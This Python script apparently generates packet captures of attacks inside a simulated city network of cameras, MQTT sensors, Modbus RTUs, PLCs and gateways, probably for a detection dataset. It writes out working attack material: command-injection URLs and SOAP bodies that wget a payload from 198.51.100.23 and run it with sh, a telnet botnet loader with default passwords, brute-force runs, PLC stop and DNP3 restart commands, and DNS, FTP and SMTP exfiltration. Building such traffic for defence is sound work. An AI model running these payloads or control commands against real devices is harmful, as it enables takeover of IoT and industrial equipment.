#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Single attacks, each with the real tool: attacks.py [NAME]... (all by default)."""
import sys

import things
from city import DNS, Site, address, build_c, day

RTU = "rtu-pump-cai-khe"
CAMERA = "cam-ninh-kieu"
MQTT = f"mqtt01.{things.ZONE}"
START = day(2)


def modbus_write_stranger():
    """A laptop in the pump segment reads, then writes coils and registers; the master goes on polling."""
    with Site([RTU, "scada01", "laptop-guest"]) as s:
        s.addresses()
        things.rtu(s, RTU)
        tool = build_c(s, "mbtool")
        s.record()
        s.join()
        s.phase(4)
        things.master(s, 400, 30, 0, RTU)
        things.wait(3)
        s.run("laptop-guest", tool, address(RTU), 1, "rc:0:8", "rh:0:10", "ms:500", "wc:1:1", "ms:400", "wr:16:900",
              "ms:400", "wcs:0:4", "ms:400", "wrs:16:3")
        things.wait(2)
        return s.save("modbus/write-stranger.pcap", START)


def modbus_recon():
    """nmap's modbus-discover, then ids, diagnostics, unknown functions and addresses that do not exist."""
    with Site([RTU, "laptop-guest"]) as s:
        s.addresses()
        things.rtu(s, RTU)
        tool = build_c(s, "mbtool")
        s.record()
        s.join()
        s.phase(4)
        a = address(RTU)
        s.run("laptop-guest", "nmap", "-n", "-Pn", "-p", "502", "--script", "modbus-discover", a)
        s.run("laptop-guest", tool, a, 1, "id", "raw:2b0e0100", "raw:080001ff00", "raw:0800040000", "raw:5a0002",
              *[f"rh:{n}:10" for n in range(100, 1100, 100)])
        return s.save("modbus/recon.pcap", START)


def modbus_write_burst():
    """The true master's address writes coils in a rapid row, and one write falls outside the declared range."""
    with Site([RTU, "scada01"]) as s:
        s.addresses()
        things.rtu(s, RTU)
        tool = build_c(s, "mbtool")
        s.record()
        s.join()
        s.run("scada01", tool, address(RTU), 1, *[f"wc:{n % 4}:{n % 2}" for n in range(40)], "wc:40:1")
        return s.save("modbus/write-burst.pcap", START)


def mqtt_wildcard():
    """A client with a sensor's own account subscribes to everything, then to the broker's status."""
    with Site(["dns01", "mqtt01", "level-cai-rang", "level-binh-thuy", "laptop-guest"]) as s:
        s.addresses()
        things.dns(s)
        things.broker(s)
        things.wait(0.8)
        s.record()
        s.join()
        s.phase(4)
        things.level_sensor(s, "level-cai-rang", 1)
        account = ("-u", "level-binh-thuy", "-P", things.ACCOUNTS["level-binh-thuy"])
        things.wait(2)
        s.run("level-binh-thuy", "mosquitto_sub", "-h", MQTT, "-i", "level-binh-thuy", *account, "-t", "#", "-W", "2")
        s.run("laptop-guest", "mosquitto_sub", "-h", MQTT, "-i", "mqtt-explorer-7f3a", *account, "-t", "$SYS/#", "-W", "1")
        return s.save("mqtt/wildcard.pcap", START)


def mqtt_brute():
    """Thirty wrong passwords at the broker, then the right one."""
    with Site(["dns01", "mqtt01", "laptop-guest"]) as s:
        s.addresses()
        things.dns(s)
        things.broker(s)
        things.wait(0.8)
        s.record()
        s.join()
        for n in range(30):
            s.run("laptop-guest", "mosquitto_pub", "-h", address("mqtt01"), "-i", f"probe-{n}", "-u", "level-cai-rang", "-P", f"123{n}",
                  "-t", "x", "-m", "x")
        s.run("laptop-guest", "mosquitto_pub", "-h", address("mqtt01"), "-i", "probe-30", "-u", "level-cai-rang",
              "-P", things.ACCOUNTS["level-cai-rang"], "-t", "sensors/cai-rang/level", "-m", '{"level_mm":9999}')
        return s.save("mqtt/brute-force.pcap", START)


def mqtt_outside():
    """From the internet: MQTT 5 passwords guessed, every topic read below one level, a command sent to a sensor."""
    with Site(["mqtt01", "attacker"]) as s:
        s.addresses()
        things.broker(s)
        things.wait(0.8)
        s.record()
        s.join()
        to = ("-h", address("mqtt01"))
        for n in range(14):
            s.run("attacker", "mosquitto_pub", "-V", "5", *to, "-i", f"m5-{n}", "-u", "dashboard", "-P", f"admin{n}", "-t", "x", "-m", "x")
        account = ("-u", "dashboard", "-P", things.ACCOUNTS["dashboard"])
        s.run("attacker", "mosquitto_sub", *to, "-i", "reader", *account, "-t", "+/#", "-W", "1")
        s.run("attacker", "mosquitto_pub", *to, "-i", "writer", *account, "-t", "sensors/cai-rang/config",
              "-m", "{\"ntp\":\"`wget http://198.51.100.23/m -O /tmp/m; sh /tmp/m`\"}")
        return s.save("mqtt/outside.pcap", START)


def modbus_internet():
    """nmap from the internet finds the RTU's port open; one read follows."""
    with Site([RTU, "attacker"]) as s:
        s.addresses()
        things.rtu(s, RTU)
        tool = build_c(s, "mbtool")
        s.record()
        s.join()
        s.run("attacker", "nmap", "-n", "-Pn", "-sS", "-p", "102,502,2404,20000,44818", address(RTU))
        s.run("attacker", tool, address(RTU), 1, "rh:0:10")
        return s.save("modbus/internet.pcap", START)


def camera_scan():
    """nmap against a camera from the internet: SYN scan, then versions."""
    with Site([CAMERA, "attacker"]) as s:
        s.addresses()
        things.camera(s, CAMERA)
        things.wait(0.8)
        s.record()
        s.join()
        s.run("attacker", "nmap", "-n", "-Pn", "-sS", "-T4", "--top-ports", "300", "--max-retries", "1", address(CAMERA))
        s.run("attacker", "nmap", "-n", "-Pn", "-sV", "-p", "80", "--script", "http-title,http-methods", address(CAMERA), timeout=90)
        return s.save("camera/scan.pcap", START)


def camera_default_login():
    """One request with the factory account of a camera, from the internet."""
    with Site([CAMERA, "attacker"]) as s:
        s.addresses()
        things.camera(s, CAMERA)
        things.wait(0.8)
        s.record()
        s.join()
        s.run("attacker", "curl", "-s", "-u", "admin:12345", f"http://{address(CAMERA)}/ISAPI/deviceInfo")
        return s.save("camera/default-login.pcap", START)


def camera_http_brute():
    """hydra guesses the basic authentication of a camera and succeeds."""
    with Site([CAMERA, "attacker"]) as s:
        s.addresses()
        things.camera(s, CAMERA)
        users = s.file("users", "root\nadmin\n")
        words = s.file("words", "\n".join(["root", "pass", "1234", "admin", "888888", "666666", "password", "camera",
                                           "123456", "54321", "qwerty", "letmein", "default", "user", "12345"]) + "\n")
        things.wait(0.8)
        s.record()
        s.join()
        s.run("attacker", "hydra", "-L", users, "-P", words, "-t", "4", "-f", "-I", address(CAMERA), "http-get", "/")
        return s.save("camera/http-brute-force.pcap", START)


def camera_outside():
    """RTSP DESCRIBE and ONVIF requests to a camera from the internet."""
    with Site([CAMERA, "attacker"]) as s:
        s.addresses()
        things.camera(s, CAMERA)
        ask = s.file("ask.xml", things.ONVIF_ASK.replace("GetSystemDateAndTime", "GetUsers"))
        things.wait(0.8)
        s.record()
        s.join()
        s.run("attacker", *things.python("rtsp", "describe", address(CAMERA), "LibVLC/3.0.18"))
        s.run("attacker", "nmap", "-n", "-Pn", "-p", "554", "--script", "rtsp-methods", address(CAMERA))
        s.run("attacker", "curl", "-s", "-H", "Content-Type: application/soap+xml", "--data-binary", f"@{ask}",
              f"http://{address(CAMERA)}/onvif/device_service")
        return s.save("camera/outside.pcap", START)


def telnet_loader():
    """A botnet's loader: wrong passwords, the right one, busybox test, download; then the bot calls home and scans telnet."""
    with Site([CAMERA, "attacker", "c2", "dns01"]) as s:
        s.addresses()
        things.dns(s)
        things.camera(s, CAMERA, telnet=True)
        things.c2(s)
        things.wait(1)
        s.record()
        s.join()
        s.phase(2)
        guesses = "root:xc3511,root:vizxv,root:admin,admin:admin,root:888888,root:xmhdipc,support:support,admin:12345"
        s.run("attacker", *things.python("loader", address(CAMERA), guesses, *things.INFECT), timeout=120)
        s.spawn(CAMERA, *things.python("c2", "bot", address("c2"), 48101, "telnet.arm", 20))
        things.wait(6)
        s.run(CAMERA, "nmap", "-n", "-Pn", "-sS", "-T4", "-p", "23,2323", "--max-retries", "0", "198.51.100.1-30")
        things.wait(6)
        return s.save("telnet/loader.pcap", START)


def ssh_brute():
    """hydra against sshd of a gateway, from the internet."""
    with Site(["lora-cai-rang", "attacker"]) as s:
        s.addresses()
        things.ssh_server(s, "lora-cai-rang")
        words = s.file("words", "\n".join(f"gateway{n}" for n in range(16)) + "\n")
        things.wait(0.8)
        s.record()
        s.join()
        s.run("attacker", "hydra", "-l", "root", "-P", words, "-t", "4", "-I", "ssh://" + address("lora-cai-rang"), timeout=180)
        return s.save("ssh/brute-force.pcap", START)


def dns_tunnel():
    """A logger sends a file out in the labels of DNS names, through the city's resolver."""
    with Site(["rain-o-mon", "dns01", "resolver"]) as s:
        s.addresses()
        things.dns(s)
        things.wait(0.8)
        s.record()
        s.join()
        s.phase(10)
        s.run("rain-o-mon", *things.python("tunnel", DNS, "t.sync-cdn.example", 60))
        return s.save("dns/tunnel.pcap", START)


def new_resolver():
    """A camera asks a resolver on the internet in place of the city's."""
    with Site([CAMERA, "dns01", "resolver"]) as s:
        s.addresses()
        things.dns(s)
        things.wait(0.8)
        s.record()
        s.join()
        s.phase(10)
        for _ in range(3):
            s.run(CAMERA, "busybox", "nslookup", f"ntp01.{things.ZONE}", DNS)
            things.wait(0.4)
        for name in ("cnc.tramgacbot.example", "update.camera-vendor.example"):
            s.run(CAMERA, "busybox", "nslookup", name, address("resolver"))
            things.wait(0.4)
        return s.save("dns/new-resolver.pcap", START)


def tls_self_signed():
    """A device calls a server on the internet whose certificate is its own issuer."""
    with Site([CAMERA, "c2"]) as s:
        s.addresses()
        things.tls_server(s, "c2", "localhost.localdomain")
        things.tls_server(s, "c2", "relay.tramgacbot.example", 8443)
        things.wait(0.8)
        s.record()
        s.join()
        s.run(CAMERA, "curl", "-s", "-k", "-o", "/dev/null", f"https://{address('c2')}/")
        s.run(CAMERA, "curl", "-s", "-k", "-o", "/dev/null", "--resolve", f"relay.tramgacbot.example:8443:{address('c2')}",
              "https://relay.tramgacbot.example:8443/")
        return s.save("tls/self-signed.pcap", START)


def coap_discovery():
    """A stranger lists the resources of a CoAP device, then reads and writes one."""
    with Site(["level-cai-rang", "attacker"]) as s:
        s.addresses()
        s.spawn("level-cai-rang", "coap-server-notls", "-A", "0.0.0.0")
        things.wait(0.8)
        s.record()
        s.join()
        a = address("level-cai-rang")
        s.run("attacker", "coap-client-notls", "-m", "get", f"coap://{a}/.well-known/core", "-B", "2")
        s.run("attacker", "coap-client-notls", "-m", "put", "-e", "0", f"coap://{a}/time", "-B", "2")
        return s.save("coap/discovery.pcap", START)


EXPLOITS = [
    ("GET", "/cgi-bin/;wget%20http://198.51.100.23/bins/tramgacbot.mips%20-O%20/tmp/a;sh%20/tmp/a", None),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/jaws.sh;sh+/tmp/jaws.sh", None),
    ("POST", "/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.23/g`&ipv=0"),
    ("PUT", "/SDK/webLanguage", "<?xml version=\"1.0\"?><language>$(busybox wget -O- http://198.51.100.23/h|sh)</language>"),
    ("GET", "/System/configurationFile?auth=YWRtaW46MTEK", None),
    ("GET", "/cgi-bin/nobody/Search.cgi?action=cgi_query&ip=198.51.100.23&username=admin&password=admin;$(tftp+-g+198.51.100.23)", None),
]
CWMP = ("<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"><SOAP-ENV:Body>"
        "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`cd /tmp;wget http://198.51.100.23/t -O t;sh t`"
        "</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>")


def http_exploits():
    """Requests by which botnets take over cameras and routers, with curl; the device (nginx) refuses them."""
    with Site([CAMERA, "attacker"]) as s:
        s.addresses()
        things.camera(s, CAMERA)
        things.wait(0.8)
        s.record()
        s.join()
        for method, path, body in EXPLOITS:
            data = ("--data-binary", body) if body else ()
            s.run("attacker", "curl", "-s", "-g", "--path-as-is", "-o", "/dev/null", "-A", "Hello, World", "-X", method, *data,
                  f"http://{address(CAMERA)}{path}")
        return s.save("http/exploits.pcap", START)


def cwmp():
    """TR-069: a stranger sends SetNTPServers with a command in it to the router's port 7547."""
    with Site(["lora-cai-rang", "attacker"]) as s:
        s.addresses()
        things.web(s, "lora-cai-rang", "location / { return 401; }", listen="7547")
        things.wait(0.8)
        s.record()
        s.join()
        s.run("attacker", "curl", "-s", "-o", "/dev/null", "-H", "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers",
              "--data-binary", CWMP, f"http://{address('lora-cai-rang')}:7547/UD/act?1")
        return s.save("http/cwmp.pcap", START)


def firmware():
    """No attack: a camera updates itself with wget from a named server, over plain HTTP."""
    with Site([CAMERA, "c2"]) as s:
        s.addresses()
        things.c2(s)
        things.publish(s, "c2", "firmware", "agent-1.7.5")
        s.hosts_file(CAMERA, "update.camera-vendor.example", address("c2"))
        things.wait(0.8)
        s.record()
        s.join()
        s.run(CAMERA, "busybox", "wget", "-q", "-O", "/dev/null", "http://update.camera-vendor.example/firmware/agent-1.7.5")
        return s.save("http/firmware.pcap", START)


def s7_stop():
    """A laptop identifies the sluice PLC (nmap), asks for a download and stops it."""
    plc = "plc-sluice-cai-khe"
    with Site([plc, "laptop-guest"]) as s:
        s.addresses()
        s.spawn(plc, *things.python("plc", "serve"))
        things.wait(0.5)
        s.record()
        s.join()
        s.phase(4)
        s.run("laptop-guest", "nmap", "-n", "-Pn", "-p", "102,44818", "--script", "s7-info,enip-info", address(plc))
        s.run("laptop-guest", *things.python("plc", "hmi", address(plc), 3, 0.3, 2))
        s.run("laptop-guest", *things.python("plc", "download", address(plc)))
        s.run("laptop-guest", *things.python("plc", "stop", address(plc)))
        return s.save("s7/stop.pcap", START)


def telecontrol_command():
    """A laptop sends a single command by IEC 104, then direct operate and cold restart by DNP3."""
    rtu = "rtu-power-tra-noc"
    with Site([rtu, "laptop-guest"]) as s:
        s.addresses()
        s.spawn(rtu, *things.python("telecontrol", "serve"))
        things.wait(0.5)
        s.record()
        s.join()
        s.phase(4)
        s.run("laptop-guest", *things.python("telecontrol", "command104", address(rtu)))
        s.run("laptop-guest", *things.python("telecontrol", "operatednp3", address(rtu)))
        return s.save("telecontrol/command.pcap", START)


def ftp_other_server():
    """A rain logger sends its file to a server on the internet."""
    with Site(["rain-o-mon", "c2"]) as s:
        s.addresses()
        (s.tmp / "ftp").mkdir()
        s.spawn("c2", *things.python("ftpd", s.tmp / "ftp", "x:x"))
        loot = s.file("loot.csv", "time,level,rain\n" * 60)
        things.wait(1)
        s.record()
        s.join()
        s.run("rain-o-mon", "curl", "-s", "-T", loot, f"ftp://x:x@{address('c2')}/loot.csv")
        return s.save("ftp/other-server.pcap", START)


def mail_loot():
    """A station mails three files to a server outside: curl speaks SMTP, the second file is a program's first bytes."""
    with Site(["rain-o-mon", "c2"]) as s:
        s.addresses()
        s.spawn("c2", "/usr/bin/python3", "-m", "aiosmtpd", "-n", "-c", "aiosmtpd.handlers.Sink", "-l", "0.0.0.0:25")
        things.wait(2)
        s.record()
        files = {"levels.csv": b"time;level\n1;2.5\n" * 40, "tool.bin": b"\x7fELF\1\1\1" + bytes(200) + b"station-loot",
                 "notes.txt": b"see http://198.51.100.23/next.exe\n"}
        parts = []
        for name, content in files.items():
            (s.tmp / name).write_bytes(content)
            parts += ["-F", f"file=@{s.tmp / name};encoder=base64"]
        s.run("rain-o-mon", "curl", "-s", f"smtp://{address('c2')}/rain-o-mon", "--mail-from", "rain@can-tho.example",
              "--mail-rcpt", "box@example.net", "-H", "Subject: daily report", "-H", "From: rain@can-tho.example",
              "-H", "To: box@example.net", "-F", "=All well. See http://portal.can-tho.example/rain", *parts)
        return s.save("mail/loot.pcap", START)


def lorawan_second_server():
    """A gateway is made to talk to a second network server on the internet."""
    with Site(["dns01", "lora-cai-rang", "lns01", "c2"]) as s:
        s.addresses()
        things.dns(s)
        for server in ("lns01", "c2"):
            s.spawn(server, *things.python("lorawan", "serve"))
        things.wait(0.5)
        s.record()
        s.join()
        s.phase(60)
        s.run("lora-cai-rang", *things.python("lorawan", "gateway", f"lns01.{things.ZONE}", 12, 0.17))
        s.run("lora-cai-rang", *things.python("lorawan", "gateway", address("c2"), 6, 0.17))
        return s.save("lorawan/second-server.pcap", START)


ALL = [modbus_write_stranger, modbus_recon, modbus_write_burst, modbus_internet, mqtt_wildcard, mqtt_brute, mqtt_outside,
       camera_scan, camera_default_login,
       camera_http_brute, camera_outside, telnet_loader, ssh_brute, dns_tunnel, new_resolver, tls_self_signed, coap_discovery,
       http_exploits, cwmp, firmware, s7_stop, telecontrol_command, ftp_other_server, mail_loot,
       lorawan_second_server]


def main():
    for f in ALL:
        if len(sys.argv) == 1 or f.__name__ in sys.argv[1:]:
            print(f.__name__, f(), "packets", flush=True)


if __name__ == "__main__":
    main()
